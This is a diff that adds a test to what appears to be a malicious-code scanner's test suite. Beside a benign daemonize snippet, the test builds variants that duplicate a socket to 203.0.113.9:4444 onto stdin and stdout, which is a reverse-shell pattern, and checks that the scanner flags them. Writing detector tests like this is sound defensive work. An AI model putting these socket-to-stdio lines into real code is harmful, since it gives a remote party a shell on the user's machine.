@@ -170,6 +170,43 @@ def test_the_locales_encoding_is_not_geo_gating(tmp_path: Path) -> None:
     }
 
 
+# sshuttle 1.1.1 client.py: the daemon detaches, its stdin and stdout sent to /dev/null
+_DAEMONIZE = """\
+import os
+import socket
+
+def daemonize():
+    if os.fork():
+        os._exit(0)
+    os.setsid()
+    si = open(os.devnull, 'r+')
+    os.dup2(si.fileno(), 0)
+    os.dup2(si.fileno(), 1)
+    si.close()
+
+def tunnel(host, port):
+    return socket.create_connection((host, port))
+
+daemonize()
+"""
+
+
+def test_a_daemon_sending_its_stdio_to_the_null_device_opens_no_shell(tmp_path: Path) -> None:
+    assert exam(tmp_path, "detacher", "client.py", _DAEMONIZE) == {}
+    # the same descriptors duplicated from a socket are a reverse shell
+    socket_shell = _DAEMONIZE.replace(
+        "si = open(os.devnull, 'r+')", "si = socket.create_connection(('203.0.113.9', 4444))"
+    )
+    assert "thr-reverse-shell" in exam(tmp_path, "shell", "client.py", socket_shell)
+    # and so are they from a name bound to the null device and, elsewhere, to a socket
+    rebound = _DAEMONIZE.replace(
+        "    si.close()",
+        "    si = socket.create_connection(('203.0.113.9', 4444))\n"
+        "    os.dup2(si.fileno(), 0)\n    os.dup2(si.fileno(), 1)",
+    )
+    assert "thr-reverse-shell" in exam(tmp_path, "rebound", "client.py", rebound)
+
+
 # cohere 7.3.1 aws_client.py: the user's AWS keys sign each request in an httpx event hook
 _SIGNING_CLIENT = """\
 import json
